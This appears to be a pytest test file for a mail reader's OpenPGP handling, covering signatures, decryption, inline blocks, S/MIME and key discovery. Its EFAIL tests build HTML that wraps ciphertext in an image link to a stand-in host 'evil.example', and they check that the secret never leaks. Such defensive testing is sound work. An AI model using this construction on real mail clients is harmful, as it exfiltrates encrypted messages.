"""Layers of OpenPGP on real gpg: what opens, what a signature covers, what stays shut."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given

from inboxd.core.model import Crypto, Scheme
from inboxd.core.opening import open_message
from inboxd.core.trust import GpgOutput
from tests.hostile_mail import KILLERS, mail_bytes
from tests.pgp_mail import (
    People,
    attached,
    crlf,
    encrypted,
    mail,
    multipart,
    signed,
    text_part,
)
from tests.pgp_mail import everyone as everyone


class NoGpg:
    """A keyring that reads nothing: what a machine without keys would say."""

    def decrypt(self, data: bytes) -> GpgOutput:
        return GpgOutput(("NODATA 1",), 2)

    def verify(self, signed: bytes, signature: bytes) -> GpgOutput:
        return GpgOutput(("NODATA 4",), 2)


class GpgThatSaysGood:
    """Claims that everything is encrypted to us and signed; gives back what it was given."""

    def decrypt(self, data: bytes) -> GpgOutput:
        status = (
            "ENC_TO 0 18 0", "PLAINTEXT 62 0 ", *self._good, "DECRYPTION_OKAY", "GOODMDC",
            "END_DECRYPTION",
        )  # fmt: skip
        return GpgOutput(status, 0, data)

    def verify(self, signed: bytes, signature: bytes) -> GpgOutput:
        return GpgOutput(self._good, 0)

    _good = ("NEWSIG", "GOODSIG 0 x", f"VALIDSIG {'A' * 40} 0 0 0 4 0 22 10 00 {'A' * 40}")


INNER = text_part("Hello,\r\nthe form is open.\r\n")


def words(crypto: Crypto) -> list[tuple[str, bool]]:
    return [(s.status.value, s.covers_whole) for s in crypto.signatures]


@given(mail_bytes)
def test_any_bytes_can_be_opened_whatever_gpg_says(raw: bytes):
    for keyring in (NoGpg(), GpgThatSaysGood()):
        opened = open_message(raw, keyring)
        assert opened.outer.raw == raw
        assert not (opened.crypto.whole_mail_signed_by and opened.crypto.reason)


@pytest.mark.parametrize("name", KILLERS)
def test_a_mail_made_to_exhaust_the_reader_is_opened(name: str):
    assert open_message(KILLERS[name], NoGpg()).crypto.signatures == ()


@pytest.mark.parametrize("kind", ["signed", "encrypted"])
def test_layers_without_end_are_given_up_and_said(kind: str):
    raw = INNER
    for number in range(12):
        version = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
        parts = (raw, version) if kind == "signed" else (version, b"\r\n" + raw)
        raw = multipart(kind, *parts, boundary=f"b{number}.")
    crypto = open_message(raw, GpgThatSaysGood()).crypto
    assert len(crypto.signatures) == 8
    assert crypto.reason == "it is wrapped in more layers than we open"
    assert crypto.whole_mail_signed_by is None


# --- the whole mail ---


def test_an_encrypted_and_signed_mail_is_wholly_its_signers(people: People):
    opened = people.open(encrypted(people.seal(INNER, people.reporter)))
    crypto = opened.crypto
    assert (crypto.encrypted, crypto.decrypted, crypto.scheme) == (True, True, Scheme.PGP_MIME)
    assert (crypto.reason, crypto.whole_mail_signed_by) == (None, people.reporter)
    assert opened.inner.raw == INNER


def test_a_mail_encrypted_around_a_signed_one_is_wholly_its_signers(people: People):
    inside = multipart(
        "signed", INNER, attached("s.asc", people.sign(INNER), "application/pgp-signature"),
        boundary="within",
    )  # fmt: skip
    crypto = people.open(encrypted(people.seal(inside))).crypto
    assert words(crypto) == [("good", True)]
    assert crypto.whole_mail_signed_by == people.reporter


def test_a_mail_encrypted_by_one_around_words_signed_by_another_has_no_single_author(
    people: People,
):
    inside = multipart(
        "signed", INNER, attached("s.asc", people.sign(INNER), "application/pgp-signature"),
        boundary="within",
    )  # fmt: skip
    crypto = people.open(encrypted(people.seal(inside, people.member))).crypto
    assert len(crypto.signatures) == 2
    assert crypto.whole_mail_signed_by is None


def test_encrypted_without_a_signature_is_nobodys(people: People):
    crypto = people.open(encrypted(people.seal(INNER))).crypto
    assert (crypto.decrypted, crypto.signatures, crypto.whole_mail_signed_by) == (True, (), None)


def test_a_first_report_signed_by_an_unknown_key_opens(people: People):
    crypto = people.open(encrypted(people.seal(INNER, people.stranger))).crypto
    assert (crypto.decrypted, crypto.whole_mail_signed_by) == (True, None)
    assert words(crypto) == [("unknown-key", False)]


def test_a_mail_with_two_signers_is_no_single_ones(people: People):
    raw = signed(INNER, people.sign(INNER, people.reporter, people.member))
    crypto = people.open(raw).crypto
    assert words(crypto) == [("good", True), ("good", True)]
    assert crypto.whole_mail_signed_by is None


@pytest.mark.parametrize("who", ["expired", "revoked", "stranger"])
def test_only_a_good_signature_makes_the_mail_somebodys(people: People, who: str):
    raw = signed(INNER, people.sign(INNER, getattr(people, who)))
    assert people.open(raw).crypto.whole_mail_signed_by is None


# --- exact bytes ---

LONG = "x" * 120
HOSTILE_BUT_LEGAL = {
    "a-header-longer-than-78-columns": text_part("a", f"X-Long: {LONG}"),
    "no-blank-after-a-colon": text_part("a").replace(b"Type: ", b"Type:"),
    "blanks-after-a-colon": text_part("a").replace(b"Type: ", b"Type:  \t"),
    "a-long-encoded-file-name": text_part(
        "a", f'Content-Disposition: attachment; filename="=?utf-8?Q?{"=C3=A9" * 30}?="'
    ),
    "blanks-after-an-inner-boundary": multipart("mixed", b"\r\na", b"\r\nb", boundary="i").replace(
        b"--i\r\n", b"--i  \t\r\n"
    ),
    "bare-line-feeds": text_part("a\nb\n").replace(b"\r\n", b"\n"),
    "some-bare-line-feeds": text_part("") + b"one\ntwo\r\nthree\n",
    "bare-carriage-returns": text_part("") + b"one\rtwo\r\rthree",
    "a-form-feed-in-a-header": text_part("a", "X-Feed: one\x0ctwo"),
    "a-message-with-a-long-subject": b"Content-Type: message/rfc822\r\n\r\n"
    + text_part("a", f"Subject: {LONG} {LONG}"),
    "trailing-blanks": text_part("a  \r\nb\t\r\n-- \r\nme  "),
    "blank-lines-at-the-end": text_part("a\r\n\r\n\r\n"),
    "nothing-at-all-in-the-body": text_part(""),
    "folded-with-a-tab": text_part("a", "X-Folded: one\r\n\ttwo"),
    "eight-bit-text": text_part("é ☃ \U0001f600"),
    "bytes-of-no-charset": text_part("") + bytes(range(1, 256)).replace(b"\r\n", b""),
    "a-boundary-that-begins-like-the-outer-one": multipart("mixed", b"\r\na", boundary="outer1"),
    "text-before-and-after-inner-parts": multipart("mixed", b"\r\na", boundary="i").replace(
        b"\r\n\r\n--i", b"\r\n\r\npreamble\r\n--i"
    )
    + b"epilogue\r\n",
    "odd-case-and-order": b"cONTENT-tRANSFER-eNCODING: 8BIT\r\ncontent-TYPE: TEXT/plain\r\n\r\na",
    "lines-that-look-like-mbox": text_part("From me\r\n>From you\r\n.\r\n..\r\n"),
    "dashes-that-are-no-boundary": text_part("--\r\n--oute\r\n --outer\r\n--outer-\r\n"),
}


@pytest.mark.parametrize("name", HOSTILE_BUT_LEGAL)
def test_a_signature_over_legal_but_unusual_bytes_is_good(people: People, name: str):
    inner = HOSTILE_BUT_LEGAL[name]
    signature = people.sign(inner)
    opened = people.open(signed(inner, signature))
    assert opened.inner.raw == inner
    assert words(opened.crypto) == [("good", True)]
    assert opened.crypto.whole_mail_signed_by == people.reporter
    changed = inner + b"!"
    assert words(people.open(signed(changed, signature)).crypto) == [("bad", False)]


def test_a_signed_mail_that_was_stored_with_line_feeds_is_good(people: People):
    raw = signed(INNER, people.sign(INNER)).replace(b"\r\n", b"\n")
    assert people.open(raw).crypto.whole_mail_signed_by == people.reporter


def test_an_encrypted_mail_that_was_stored_with_line_feeds_opens(people: People):
    raw = encrypted(people.seal(INNER, people.reporter)).replace(b"\r\n", b"\n")
    assert people.open(raw).crypto.whole_mail_signed_by == people.reporter


@pytest.mark.parametrize(
    ("old", "new"),
    [(b"open", b"0pen"), (b"utf-8", b"utf-7"), (b"\r\n\r\nHello", b"\r\nX: y\r\n\r\nHello")],
)
def test_any_change_inside_the_signed_part_is_bad(people: People, old: bytes, new: bytes):
    raw = signed(INNER, people.sign(INNER)).replace(old, new)
    assert words(people.open(raw).crypto) == [("bad", False)]


def test_a_signature_made_for_another_mail_is_bad(people: People):
    assert words(people.open(signed(INNER, people.sign(b"other"))).crypto) == [("bad", False)]


# --- only a part ---


def test_a_footer_inside_the_signed_structure_leaves_only_a_part_signed(people: People):
    raw = signed(INNER, people.sign(INNER), text_part("list footer"))
    crypto = people.open(raw).crypto
    assert words(crypto) == [("good", False)]
    assert crypto.whole_mail_signed_by is None


def test_a_signed_mail_wrapped_with_a_footer_by_a_list_is_not_wholly_signed(people: People):
    inside = signed(INNER, people.sign(INNER))
    inside = inside[inside.index(b"Content-Type: multipart/signed") :]
    raw = multipart("mixed", inside, text_part("list footer"), boundary="list")
    message = people.read(raw)
    assert message.crypto.whole_mail_signed_by is None
    assert "the form is open" in message.text
    assert "list footer" in message.text


@pytest.mark.parametrize("where", ["before", "after"])
def test_text_around_an_inline_block_is_labelled_and_not_signed(people: People, where: str):
    block = people.clearsign("Signed words\n").decode()
    text = f"forged words\n\n{block}" if where == "before" else f"{block}\nforged words"
    message = people.read(mail("text/plain; charset=utf-8", crlf(text.encode())))
    assert message.crypto.scheme is Scheme.PGP_INLINE
    assert words(message.crypto) == [("good", False)]
    assert message.crypto.whole_mail_signed_by is None
    inside, _, outside = message.text.partition("[Text outside the protected block:]")
    assert inside.strip() == "Signed words"
    assert outside.strip() == "forged words"


def test_a_second_inline_block_is_outside_the_first(people: People):
    blocks = people.clearsign("one\n") + people.clearsign("two\n")
    crypto = people.open(mail("text/plain", crlf(blocks))).crypto
    assert crypto.whole_mail_signed_by is None


@pytest.mark.parametrize("form", ["signed", "encrypted"])
def test_an_inline_block_that_is_all_of_the_mail_is_wholly_its_signers(people: People, form: str):
    block = people.clearsign("Words é\n") if form == "signed" else people.seal(
        "Words é\n".encode(), people.reporter
    )  # fmt: skip
    message = people.read(mail("text/plain; charset=utf-8", crlf(block)))
    assert message.crypto.whole_mail_signed_by == people.reporter
    assert message.crypto.encrypted is (form == "encrypted")
    assert message.text.strip() == "Words é"


def test_an_inline_block_beside_an_attachment_speaks_for_itself_only(people: People):
    raw = multipart(
        "mixed",
        b"Content-Type: text/plain\r\n\r\n" + crlf(people.clearsign("see the file\n")),
        attached("a.txt", b"anything"),
    )
    assert people.open(raw).crypto.whole_mail_signed_by is None


def test_a_changed_inline_block_is_bad_and_still_readable(people: People):
    block = people.clearsign("pay Ada\n").replace(b"Ada", b"Eve")
    message = people.read(mail("text/plain", crlf(block)))
    assert words(message.crypto) == [("bad", False)]
    assert "pay Eve" in message.text


@pytest.mark.parametrize(
    ("old", "new"), [(b"two", b"-----OOPS-----"), (rb"\n=....\n", b"\n=AAAA\n")]
)
def test_an_inline_block_that_gpg_cannot_read_is_shown_as_it_came(
    people: People, old: bytes, new: bytes
):
    block = re.sub(old, new, people.clearsign("one\ntwo\nthree\n"))
    message = people.read(mail("text/plain", crlf(block)))
    assert "three" in message.text
    assert message.crypto.whole_mail_signed_by is None


# --- EFAIL and other ways to make us decrypt for somebody else ---


def test_armor_in_html_is_not_opened(people: People):
    block = crlf(people.seal(b"secret"))
    html = b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/?\r\n" + block + b"'>"
    for raw in (mail("text/html", html.partition(b"\r\n\r\n")[2]), multipart("mixed", html)):
        message = people.read(raw)
        assert "secret" not in message.text
        assert not message.crypto.decrypted


def test_ciphertext_in_a_forwarded_message_is_not_opened(people: People):
    whole = b"Content-Type: message/rfc822\r\n\r\n" + encrypted(people.seal(text_part("secret")))
    inline = b"Content-Type: message/rfc822\r\n\r\n" + mail(
        "text/plain", crlf(people.seal(b"secret"))
    )
    for raw in (
        multipart("mixed", text_part("look"), whole, boundary="around"),
        multipart("mixed", inline, boundary="around"),
    ):
        message = people.read(raw)
        assert "secret" not in message.text
        assert not any(b"secret" in a.data for a in message.attachments)
        assert not message.crypto.decrypted


def test_decrypted_text_never_joins_the_markup_around_it(people: People):
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?'
    after = b'Content-Type: text/html\r\n\r\n">'
    inside = encrypted(people.seal(text_part("secret")))
    inside = inside[inside.index(b"Content-Type: multipart/encrypted") :]
    message = people.read(multipart("mixed", before, inside, after, boundary="around"))
    assert "secret" not in message.text


def test_a_message_encrypted_to_somebody_else_stays_shut_and_says_why(people: People):
    message = people.read(encrypted(people.seal(INNER, to=people.stranger)))
    assert (message.crypto.encrypted, message.crypto.decrypted) == (True, False)
    assert message.crypto.reason == "it is encrypted to a key that is not ours"


# --- odd shapes ---


def test_a_mail_that_exchange_rewrote_as_mixed_opens(people: People):
    ciphertext = people.seal(INNER, people.reporter)
    for raw in (
        encrypted(ciphertext, "mixed"),
        encrypted(ciphertext, "mixed", b"Content-Type: text/plain\r\n\r\n\r\n"),
    ):
        assert people.open(raw).crypto.whole_mail_signed_by == people.reporter


def test_base64_around_the_ciphertext_is_undone(people: People):
    coded = b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(people.seal(INNER))
    version = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
    assert people.open(multipart("encrypted", version, coded)).crypto.decrypted


def test_an_encrypted_attachment_is_opened_beside_its_text(people: People):
    raw = multipart(
        "mixed", text_part("see the file"), attached("poc.py.gpg", people.seal(b"print(1)\n"))
    )
    message = people.read(raw)
    assert [(a.name, a.data) for a in message.attachments] == [("poc.py", b"print(1)\n")]
    assert message.crypto.scheme is Scheme.PGP_ATTACHMENT
    assert "see the file" in message.text


def test_a_file_that_only_looks_encrypted_by_its_name_stays_a_file(people: People):
    raw = multipart("mixed", text_part("text"), attached("notes.asc", b"just notes"))
    message = people.read(raw)
    assert [(a.name, a.data) for a in message.attachments] == [("notes.asc", b"just notes")]
    assert not message.crypto.encrypted


@pytest.mark.parametrize(
    ("content_type", "encrypts"),
    [
        ("application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", True),
        ("application/x-pkcs7-mime; name=smime.p7m", True),
        ("application/pkcs7-mime; smime-type=signed-data", False),
    ],
)
def test_s_mime_is_named_and_explained(people: People, content_type: str, encrypts: bool):
    crypto = people.open(mail(content_type, b"MIAGCSqGSIb3DQEHA6CA")).crypto
    assert (crypto.scheme, crypto.encrypted, crypto.decrypted) == (Scheme.SMIME, encrypts, False)
    assert ("S/MIME" in (crypto.reason or "")) is encrypts


def test_an_s_mime_signature_is_named_and_proves_nothing(people: People):
    part = b"Content-Type: application/pkcs7-signature\r\n\r\nMIAG"
    raw = multipart('signed; protocol="application/pkcs7-signature"', INNER, part)
    crypto = people.open(raw).crypto
    assert (crypto.scheme, crypto.signatures) == (Scheme.SMIME, ())


# --- keys and subjects ---


def test_keys_are_found_in_attachments_text_and_autocrypt(people: People):
    key = people.public_key(people.stranger)
    packed = base64.b64encode(people.gpg("--export", people.stranger)).decode()
    raw = multipart(
        "mixed",
        text_part("my key:\r\n" + key.decode()),
        attached("key.asc", people.public_key(people.member), "application/pgp-keys"),
        Autocrypt=f"addr=stranger@example.org; keydata={packed}",
    )
    found = people.open(raw).keys
    assert sorted(k.source for k in found) == ["attachment", "autocrypt", "text"]


def test_more_keys_than_the_bound_are_not_taken(people: People):
    blocks = b"".join(
        b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n%d\n-----END PGP PUBLIC KEY BLOCK-----\n" % n
        for n in range(50)
    )
    assert len(people.open(mail("text/plain", crlf(blocks))).keys) == 5


@pytest.mark.parametrize("parameter", ['hp="cipher"', 'protected-headers="v1"'])
def test_a_protected_subject_is_read_from_inside(people: People, parameter: str):
    inner = text_part("a", "Subject: =?utf-8?Q?the_r=C3=A9al_subject?=").replace(
        b'charset="utf-8"', b"charset=utf-8; " + parameter.encode()
    )
    for raw in (encrypted(people.seal(inner)), signed(inner, people.sign(inner))):
        message = people.read(raw)
        assert message.protected_subject == "the réal subject"
        assert message.subject == "outer subject"


def test_a_subject_inside_without_protection_is_no_subject(people: People):
    inner = text_part("a", "Subject: not protected")
    assert people.read(encrypted(people.seal(inner))).protected_subject is None


def test_ciphertext_that_stays_shut_is_tried_once():
    class Counting(NoGpg):
        runs = 0

        def decrypt(self, data: bytes) -> GpgOutput:
            self.runs += 1
            return super().decrypt(data)

    ring = Counting()
    open_message(encrypted(b"no armor"), ring)
    assert ring.runs == 1


# --- files with a signature beside them ---


def test_a_signature_beside_a_file_speaks_for_the_file_only(people: People):
    signature = attached("poc.zip.asc", people.sign(b"PK"), "application/pgp-signature")
    crypto = people.open(multipart("mixed", INNER, attached("poc.zip", b"PK"), signature)).crypto
    assert words(crypto) == [("good", False)]
    assert crypto.whole_mail_signed_by is None


def test_a_signature_beside_an_encrypted_file_may_be_of_what_is_in_it(people: People):
    sealed = attached("poc.txt.gpg", people.seal(b"PK"))
    signature = attached("poc.txt.sig", people.sign(b"PK"))
    opened = people.open(multipart("mixed", INNER, sealed, signature))
    assert [f.name for f in opened.files] == ["poc.txt"]
    assert words(opened.crypto) == [("good", False)]


def test_a_file_that_was_changed_after_signing_is_told(people: People):
    signature = attached("poc.zip.asc", people.sign(b"PK"))
    crypto = people.open(multipart("mixed", INNER, attached("poc.zip", b"KP"), signature)).crypto
    assert words(crypto) == [("bad", False)]


def test_a_signature_beside_a_file_takes_nothing_from_the_signature_of_the_mail(people: People):
    signature = attached("poc.zip.asc", people.sign(b"PK", people.member))
    inner = multipart("mixed", INNER, attached("poc.zip", b"PK"), signature, boundary="within")
    crypto = people.open(signed(inner, people.sign(inner))).crypto
    assert words(crypto) == [("good", True), ("good", False)]
    assert crypto.whole_mail_signed_by == people.reporter
